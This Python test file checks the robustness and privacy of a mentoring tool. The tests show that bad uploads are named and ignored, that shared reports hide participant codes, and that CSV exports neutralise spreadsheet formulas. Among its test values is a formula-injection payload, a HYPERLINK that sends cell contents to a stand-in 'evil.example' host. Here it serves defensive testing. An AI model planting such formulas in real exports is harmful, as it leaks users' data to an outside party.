"""No bad file stops the rest: every reader at a boundary (the upload boxes,
the cohort folder, the store, exports) turns any failure into its own message
naming the file, one bad file is listed and the others used; exports keep
spreadsheet formulas inert and still read back; the shareable report never
shows a participant code or a file name."""

from __future__ import annotations

import csv
import html
import io
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

from mentorkit import assessment, cohort, network
from mentorkit.agreement import Agreement
from mentorkit.content import MAX_UPLOAD_BYTES, guard_cell, unguard_cell
from mentorkit.report import report_html
from mentorkit.store import Store
from mentorkit.ui.assessment import SelfAssessmentApp
from mentorkit.ui.network import NetworkMapApp

from .test_cohort import COMPETENCIES, answers_for, export

BIN = Path(sys.executable).parent
FIELD_LIMIT = csv.field_size_limit()


def long_field_csv(instrument=COMPETENCIES) -> bytes:
    """An export whose one text cell is longer than the csv module reads (``_csv.Error``)."""
    header = ",".join(assessment.CSV_COLUMNS)
    row = f"mentorkit-self-assessment,1,{instrument.id},{instrument.version},,pre,d,item,"
    return f"{header}\n{row}\"{'x' * (FIELD_LIMIT + 10)}\"\n".encode()


def deep_json() -> bytes:
    return b'{"format": "mentorkit-self-assessment", "results": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"


BAD_UPLOADS = {
    "long-field.csv": long_field_csv(),
    "deep.json": deep_json(),
    "not-utf8.csv": b"format,instrument\n\xff\xfe\xfa\n",
    "nul.csv": ("\n".join([",".join(assessment.CSV_COLUMNS), "a\x00b"])).encode(),
    "huge-number.json": b'{"format": "mentorkit-self-assessment", "format_version": 1' + b"9" * 5000 + b"}",
    "types.json": json.dumps({"format": "mentorkit-self-assessment", "format_version": 1,
                              "instrument": "competencies", "instrument_version": 1, "participant": 5,
                              "results": [{"timepoint": ["pre"], "answers": {"comm-listen": {}}}]}).encode(),
    "too-big.json": b" " * (MAX_UPLOAD_BYTES + 1),
}


@pytest.mark.parametrize("name", sorted(BAD_UPLOADS))
def test_a_bad_upload_is_named_and_changes_nothing(name, tmp_path):
    app = SelfAssessmentApp(COMPETENCIES, store=Store(tmp_path))
    app.upload.receive("good.json", assessment.export_json(COMPETENCIES, [answers_for(3, "pre")]).encode())
    before = dict(app.answers.values)
    assert app.upload.receive(name, BAD_UPLOADS[name]) is False
    message = html.unescape(app.upload.message)
    assert "Nothing was changed" in message and name in message
    assert app.answers.values == before
    assert Store(tmp_path).load("competencies", "pre").data["answers"] == before


@pytest.mark.parametrize("name", sorted(BAD_UPLOADS))
def test_the_network_reader_names_a_bad_file(name):
    content = BAD_UPLOADS[name]
    if name == "long-field.csv":
        header = ",".join(network.CSV_COLUMNS)
        content = f"{header}\n\"{'x' * (FIELD_LIMIT + 10)}\"\n".encode()
    with pytest.raises(network.ExportError) as caught:
        network.parse_export(content, name)
    assert name in str(caught.value)


def test_the_network_app_keeps_a_copy_of_the_map_a_restore_replaces(tmp_path):
    app = NetworkMapApp(store=Store(tmp_path))
    app.add_button.click()
    app.fields["name"].value = "DR"
    other = network.Network([network.Person("AB", ["work"], "close", "peer")], "a goal")
    assert app.upload.receive("other.json", network.export_json(other).encode())
    app.replace_button.click()
    copies = list((tmp_path / network.INSTRUMENT / "backups").glob("*.json"))
    assert len(copies) == 1 and json.loads(copies[0].read_text())["data"]["people"][0]["name"] == "DR"
    assert str(copies[0]) in html.unescape(app.upload.message)


# -- the cohort folder and `mentorkit report` ------------------------------------------------
def test_one_bad_file_is_listed_and_the_rest_are_used(tmp_path):
    for code in ("Alpha01", "Bravo02"):
        export(tmp_path, code, code, [answers_for(3, "pre"), answers_for(5, "post")])
    folder = tmp_path / "exports"
    for name, content in BAD_UPLOADS.items():
        (folder / name).write_bytes(content)
    os.mkfifo(folder / "pipe.json")  # reading it would wait forever: noted, never opened
    out = tmp_path / "report.html"
    run = subprocess.run([str(BIN / "mentorkit"), "report", str(folder), "--out", str(out), "--no-progress"],
                         capture_output=True, text=True, timeout=120)
    assert run.returncode == 0, run.stderr
    assert "Traceback" not in run.stderr
    for name in BAD_UPLOADS:  # the terminal names each file, and why
        assert any(line.startswith(str(folder / name)) and "not used" in line
                   for line in run.stderr.splitlines()), name
    found = cohort.read_folder(folder, COMPETENCIES)
    assert len(found.paired()) == 2 and found.files_used == 2
    assert {n.file for n in found.notes} == {*BAD_UPLOADS, "pipe.json"}
    assert "not a regular file" in next(n.why for n in found.notes if n.file == "pipe.json")
    assert all(n.why.startswith(n.file) for n in found.notes)
    page = out.read_text()
    assert "2 participant(s) in 2 usable file(s)" in page


def test_the_shared_report_shows_no_participant_code_or_file_name(tmp_path):
    export(tmp_path, "anna-smith", "Anna01", [answers_for(3, "pre"), answers_for(4, "post")])
    export(tmp_path, "anna-smith-again", "Anna01", [answers_for(3, "pre"), answers_for(4, "post")])
    export(tmp_path, "bob-jones", "Bob02", [answers_for(2, "pre")], fmt="csv")
    folder = tmp_path / "exports"
    lines = (folder / "bob-jones.csv").read_text().splitlines()
    (folder / "carol-mixed.csv").write_text("\n".join(
        [*lines, lines[1].replace("Bob02", "Carol03").replace(",pre,", ",post,")]) + "\n")
    data = json.loads((folder / "anna-smith.json").read_text())
    (folder / "dan-bad-code.json").write_text(json.dumps({**data, "participant": "Dan Brown!"}))
    found = cohort.read_folder(folder, COMPETENCIES)
    terminal = " ".join(n.why for n in found.notes)
    assert "Carol03" in terminal and "Dan Brown!" in terminal  # the terminal may show them
    page = re.sub(r'src="data:[^"]*"', "", report_html(found))  # not the charts' image data
    for secret in ("Anna01", "Bob02", "Carol03", "Dan Brown", "anna", "bob", "carol", "dan-bad"):
        assert secret.lower() not in page.lower(), secret
    assert "mixes 2 participant codes" in page and "its participant code is not valid" in page
    assert "the same as those in file 2 of 5 (.json)" in page  # the duplicate names its twin by number


def test_shared_notes_cost_does_not_depend_on_the_number_of_files():
    """A note's text for a shared report touches its own file and at most one
    other, never the whole list (the report was quadratic: 70 s for 4,000 files)."""
    found = cohort.Cohort(COMPETENCIES, files=[f"f{i:05d}.json" for i in range(4000)])

    class Counting(str):
        replaced = 0

        def replace(self, *args):
            Counting.replaced += 1
            return Counting(str.replace(self, *args))

    note = cohort.FileNote("f00007.json", cohort.NOT_USED, Counting("f00007.json is empty."))
    assert found.note_text(note, named=False) == "file 8 of 4000 (.json) is empty."
    assert Counting.replaced <= 2


# -- exports: formulas stay text, and read back -----------------------------------------------
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+2", "-1+2", "@SUM(A1:A9)", "\tlead tab",
            "\rcarriage", "'quoted", "''twice", "plain text", "a = b"]


@pytest.mark.parametrize("value", FORMULAS)
def test_guard_and_unguard(value):
    guarded = guard_cell(value)
    assert not guarded.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert unguard_cell(guarded) == value


def reflection_instrument():
    from .test_cohort import free_text_instrument

    return free_text_instrument()


def test_formulas_in_answers_are_inert_in_the_csv_and_round_trip(tmp_path):
    instrument = reflection_instrument()
    results = []
    for timepoint, text in (("pre", FORMULAS[0]), ("post", "-minus first")):
        answers = instrument.new_answers(timepoint)
        answers.set("r1", 3)
        answers.set("t1", text)
        results.append(answers)
    text = assessment.export_csv(instrument, results, participant="Q1")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert f"'{FORMULAS[0]}" in cells
    # Restore reads it back as typed
    back, participant = assessment.parse_export(text, "mine.csv", instrument)
    assert {a.timepoint: a.values["t1"] for a in back} == {"pre": FORMULAS[0], "post": "-minus first"}
    # and so does the cohort report
    folder = tmp_path / "exports"
    folder.mkdir()
    (folder / "q1.csv").write_text(text)
    found = cohort.read_folder(folder, instrument)
    assert found.notes == []
    assert {a.values["t1"] for a in found.participants["P001"].values()} == {FORMULAS[0], "-minus first"}
    assert html.escape(FORMULAS[0]) in report_html(found)


def test_the_app_restores_its_own_csv_with_formulas(tmp_path):
    instrument = reflection_instrument()
    app = SelfAssessmentApp(instrument, store=Store(tmp_path))
    app.answers.set("t1", "=1+1")
    app.answers.set("r1", 2)
    app._save()
    csv_text = assessment.export_csv(instrument, [app.answers])
    assert "'=1+1" in csv_text
    other = SelfAssessmentApp(instrument, store=Store(tmp_path / "other"))
    assert other.upload.receive("mine.csv", csv_text.encode())
    assert other.answers.values["t1"] == "=1+1"


def test_network_csv_export_is_inert_and_reads_back():
    person = network.Person("=cmd", ["work"], "close", "peer", notes="+notes", setting="@home")
    net = network.Network([person], goal="-lead a lab")
    text = network.export_csv(net)
    rows = list(csv.reader(io.StringIO(text)))
    assert not [c for row in rows for c in row if c.startswith(("=", "+", "-", "@"))]
    back = network.parse_export(text, "mine.csv")
    assert back.goal == "-lead a lab" and back.people[0].name == "=cmd"
    assert back.people[0].notes == "+notes" and back.people[0].setting == "@home"


# -- well-formed files with unexpected content --------------------------------------------------
def test_an_agreement_with_odd_channels_is_read_not_crashed():
    agreement = Agreement.from_data({"channels": [{}], "minutes": True, "mentor": ["x"]})
    assert agreement.channels == [] and agreement.minutes == 45 and agreement.mentor == ""
    assert agreement.problems()["channels"] == "Choose at least one way of meeting."


def test_an_upload_handler_that_fails_unexpectedly_still_answers_the_learner():
    from mentorkit.ui.appkit import UploadBox

    def broken(filename, content):
        raise RecursionError("maximum recursion depth exceeded")

    box = UploadBox("Restore my answers from a file\u2026", broken)
    assert box.receive("odd.json", b"{}") is False
    message = html.unescape(box.message)
    assert "Nothing was changed: odd.json could not be read (RecursionError)" in message
